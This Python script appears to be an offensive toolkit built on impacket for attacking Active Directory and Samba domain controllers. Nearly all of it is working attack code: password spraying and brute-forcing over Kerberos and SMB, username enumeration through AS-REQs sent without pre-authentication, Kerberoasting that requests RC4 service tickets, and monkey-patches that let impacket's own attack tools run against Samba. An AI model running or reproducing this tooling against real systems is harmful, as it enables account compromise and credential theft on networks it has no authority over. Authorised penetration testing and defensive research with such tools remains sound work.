"""attack - attacks for which no packaged tool fits, written with impacket, and impacket's tools made to fit Samba.

    attack.py spray-kerberos KDC REALM PASSWORD USER...     one password, many accounts (TCP)
    attack.py spray-smb SERVER DOMAIN PASSWORD USER...      the same by SMB and NTLM
    attack.py brute-kerberos KDC REALM USER PASSWORD...     one account, many passwords (TCP)
    attack.py brute-smb SERVER DOMAIN USER PASSWORD...      the same by SMB and NTLM
    attack.py enumerate KDC REALM USER...                   AS-REQ without pre-authentication (UDP)
    attack.py roast KDC REALM USER PASSWORD SPN...          a TGT by RC4, then RC4 service tickets (TCP)
    attack.py tool FILE ARGUMENT...                         one of impacket's own tools, with three repairs

One line per try: the name and the server's answer.

Three things in impacket a Windows server lets pass and Samba does not: a TGS-REQ's authenticator without a checksum
over the request (RFC 4120 5.5.1), a prefix table without schema information in GetNCChanges (MS-DRSR 5.16.4), and an
ALTER_CONTEXT that carries its presentation context twice. `tool` and `roast` put them right, as a Windows client has
them; all else on the wire is the tool's own.
"""
import datetime
import random
import runpy
import socket
import sys
import time

from impacket.dcerpc.v5 import drsuapi, rpcrt
from impacket.krb5 import constants, crypto, kerberosv5
from impacket.krb5.asn1 import (AP_REQ, AS_REQ, Authenticator, KERB_PA_PAC_REQUEST, KRB_ERROR, TGS_REP, TGS_REQ,
                                seq_set, seq_set_iter)
from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
from impacket.krb5.types import KerberosTime, Principal
from impacket.ntlm import compute_lmhash, compute_nthash
from impacket.smbconnection import SessionError, SMBConnection
from pyasn1.codec.der import decoder, encoder
from pyasn1.type.univ import noValue

PAUSE_S = 0.15


def report(name, answer):
    print("%s: %s" % (name, answer), flush=True)
    time.sleep(PAUSE_S)


def try_kerberos(kdc, realm, user, password):
    client = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    try:
        getKerberosTGT(client, password, realm, b"", b"", kdcHost=kdc)
        return "ticket"
    except KerberosError as error:
        return error.getErrorString()[0]


def try_smb(server, domain, user, password):
    connection = SMBConnection(server, server, timeout=10)
    try:
        connection.login(user, password, domain)
        return "logged on"
    except SessionError as error:
        return error.getErrorString()[0]
    finally:
        connection.close()


def bare_as_req(realm, user):
    """An AS-REQ that proves nothing: a KDC answers 25 for a name that exists, 6 for one that does not."""
    request = AS_REQ()
    request["pvno"] = 5
    request["msg-type"] = constants.ApplicationTagNumbers.AS_REQ.value
    pac = KERB_PA_PAC_REQUEST()
    pac["include-pac"] = True
    request["padata"] = noValue
    request["padata"][0] = noValue
    request["padata"][0]["padata-type"] = constants.PreAuthenticationDataTypes.PA_PAC_REQUEST.value
    request["padata"][0]["padata-value"] = encoder.encode(pac)
    body = seq_set(request, "req-body")
    body["kdc-options"] = constants.encodeFlags([constants.KDCOptions.forwardable.value])
    seq_set(body, "sname", Principal("krbtgt/" + realm, type=2).components_to_asn1)
    seq_set(body, "cname", Principal(user, type=1).components_to_asn1)
    body["realm"] = realm
    body["till"] = KerberosTime.to_asn1(datetime.datetime.utcnow() + datetime.timedelta(days=1))
    body["nonce"] = random.getrandbits(31)
    seq_set_iter(body, "etype", (18, 17, 23))
    return encoder.encode(request)


def ask_name(kdc, realm, user):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        udp.sendto(bare_as_req(realm, user), (kdc, 88))
        answer = udp.recv(65536)
    if answer[0] != 0x7E:
        return "ticket without pre-authentication"
    error = decoder.decode(answer, asn1Spec=KRB_ERROR())[0]
    return constants.ErrorCodes(int(error["error-code"])).name


def roast(kdc, realm, user, password, spns):
    """What GetUserSPNs -request does, but by service principal name: Samba finds no account by its -128 names."""
    client = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    tgt, cipher, _, key = kerberosv5.getKerberosTGT(client, "", realm, compute_lmhash(password),
                                                    compute_nthash(password), kdcHost=kdc)
    for spn in spns:
        name = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
        try:
            tgs = kerberosv5.getKerberosTGS(name, realm, kdc, tgt, cipher, key)[0]
            report(spn, "ticket, etype %d" % decoder.decode(tgs, asn1Spec=TGS_REP())[0]["ticket"]["enc-part"]["etype"])
        except KerberosError as error:
            report(spn, error.getErrorString()[0])


CHECKSUM_TYPES = {17: 15, 18: 16, 23: -138}
TGS_REQ_TAG, CHECKSUM_USAGE, AUTHENTICATOR_USAGE = 0x6C, 6, 7


def with_checksum(message, cipher, key):
    """The same TGS-REQ, its authenticator holding a checksum over the request's body."""
    request = decoder.decode(message, asn1Spec=TGS_REQ())[0]
    ap_req = decoder.decode(request["padata"][0]["padata-value"], asn1Spec=AP_REQ())[0]
    sealed = ap_req["authenticator"]["cipher"].asOctets()
    authenticator = decoder.decode(cipher.decrypt(key, AUTHENTICATOR_USAGE, sealed), asn1Spec=Authenticator())[0]
    tagged = encoder.encode(request["req-body"])
    body = tagged[2 + (tagged[1] & 0x7F if tagged[1] & 0x80 else 0):]
    kind = CHECKSUM_TYPES[cipher.enctype]
    authenticator["cksum"] = noValue
    authenticator["cksum"]["cksumtype"] = kind
    authenticator["cksum"]["checksum"] = crypto.make_checksum(kind, key, CHECKSUM_USAGE, body)
    ap_req["authenticator"]["cipher"] = cipher.encrypt(key, AUTHENTICATOR_USAGE, encoder.encode(authenticator), None)
    request["padata"][0]["padata-value"] = encoder.encode(ap_req)
    return encoder.encode(request)


def repair_tickets():
    get_tgs, send = kerberosv5.getKerberosTGS, kerberosv5.sendReceive
    session = []

    def repaired_get_tgs(name, domain, kdc, tgt, cipher, key):
        session[:] = [cipher, key]
        return get_tgs(name, domain, kdc, tgt, cipher, key)

    def repaired_send(message, host, kdc):
        return send(with_checksum(message, *session) if message[0] == TGS_REQ_TAG else message, host, kdc)

    kerberosv5.getKerberosTGS, kerberosv5.sendReceive = repaired_get_tgs, repaired_send


def repair_replication():
    send = rpcrt.DCERPC_v5.request

    def repaired_send(self, request, *rest, **options):
        if isinstance(request, drsuapi.DRSGetNCChanges):
            table = request["pmsgIn"]["V8"]["PrefixTableDest"]
            entry = drsuapi.PrefixTableEntry()
            entry["ndx"] = 0
            entry["prefix"]["length"] = 21
            entry["prefix"]["elements"] = [b"\xff"] + [b"\0"] * 20
            table["pPrefixEntry"].append(entry)
            table["PrefixCount"] = len(table["pPrefixEntry"])
        return send(self, request, *rest, **options)

    rpcrt.DCERPC_v5.request = repaired_send


def repair_bind():
    get_data = rpcrt.MSRPCBind.getData

    def repaired_get_data(self):
        self["ctx_items"] = b""
        return get_data(self)

    rpcrt.MSRPCBind.getData = repaired_get_data


def main():
    if sys.argv[1:2] == ["tool"] and len(sys.argv) > 2:
        repair_tickets()
        repair_replication()
        repair_bind()
        sys.argv = sys.argv[2:]
        runpy.run_path(sys.argv[0], run_name="__main__")
        return
    if len(sys.argv) < 5:
        sys.exit(__doc__.strip())
    attack, server, realm, *rest = sys.argv[1:]
    if attack == "roast":
        repair_tickets()
        roast(server, realm, rest[0], rest[1], rest[2:])
        return
    if attack == "enumerate":
        for user in rest:
            report(user, ask_name(server, realm, user))
        return
    attempt = {"kerberos": try_kerberos, "smb": try_smb}[attack.split("-")[1]]
    fixed, *varied = rest
    for word in varied:
        user, password = (word, fixed) if attack.startswith("spray") else (fixed, word)
        report(user, attempt(server, realm, user, password))


if __name__ == "__main__":
    main()
